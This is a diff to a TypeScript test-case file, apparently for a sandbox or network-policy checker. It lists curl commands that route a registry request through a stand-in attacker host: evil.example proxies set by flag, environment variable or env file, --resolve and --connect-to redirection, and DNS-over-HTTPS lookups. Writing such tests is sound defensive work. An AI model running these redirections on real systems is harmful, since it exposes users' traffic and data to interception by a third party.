@@ -1,5 +1,5 @@
 // Hosts that a text chooses: options, variables, settings, state files and dry runs send what is known to a stranger.
-import { type BorrowedCase, family, write } from "../borrowed-case.ts";
+import { type BorrowedCase, family, REGISTRY, write } from "../borrowed-case.ts";
 
 export const hostCases: readonly BorrowedCase[] = family("hosts", [
   {
@@ -8,31 +8,29 @@ export const hostCases: readonly BorrowedCase[] = family("hosts", [
   },
   {
     ...{ id: "curl-proxy", title: "a request to a known host by a stranger's proxy" },
-    acts: ["curl -s -m 3 -x http://evil.example:3128 http://registry.npmjs.org/left-pad"],
+    acts: [`curl -s -m 3 -x http://evil.example:3128 http://${REGISTRY}/left-pad`],
   },
   {
     ...{ id: "curl-resolve", title: "a known host at a stranger's address" },
-    acts: [
-      "curl -s -m 3 --resolve registry.npmjs.org:80:52.0.0.66 http://registry.npmjs.org/left-pad",
-    ],
+    acts: [`curl -s -m 3 --resolve ${REGISTRY}:80:52.0.0.66 http://${REGISTRY}/left-pad`],
   },
   {
     ...{ id: "curl-connect-to", title: "the same by `--connect-to`" },
-    acts: ["curl -s -m 3 --connect-to ::evil.example:80 http://registry.npmjs.org/left-pad"],
+    acts: [`curl -s -m 3 --connect-to ::evil.example:80 http://${REGISTRY}/left-pad`],
   },
   {
     ...{ id: "curl-variable-proxy", title: "a proxy by a variable" },
-    acts: ["http_proxy=http://evil.example:3128 curl -s -m 3 http://registry.npmjs.org/left-pad"],
+    acts: [`http_proxy=http://evil.example:3128 curl -s -m 3 http://${REGISTRY}/left-pad`],
   },
   {
     ...{ id: "curl-socks", title: "a proxy by `ALL_PROXY` of a file" },
     files: { "proxy.env": "export ALL_PROXY=socks5h://evil.example:1080\n" },
-    acts: [". ./proxy.env; curl -s -m 3 http://registry.npmjs.org/left-pad"],
+    acts: [`. ./proxy.env; curl -s -m 3 http://${REGISTRY}/left-pad`],
   },
   {
     ...{ id: "curl-doh", title: "names are asked of a stranger" },
     acts: [
-      "curl -s -m 3 --doh-url http://evil.example/dns http://registry.npmjs.org/left-pad; curl -s -m 3 --doh-url https://evil.example/dns http://registry.npmjs.org/left-pad",
+      `curl -s -m 3 --doh-url http://evil.example/dns http://${REGISTRY}/left-pad; curl -s -m 3 --doh-url https://evil.example/dns http://${REGISTRY}/left-pad`,
     ],
   },
   {
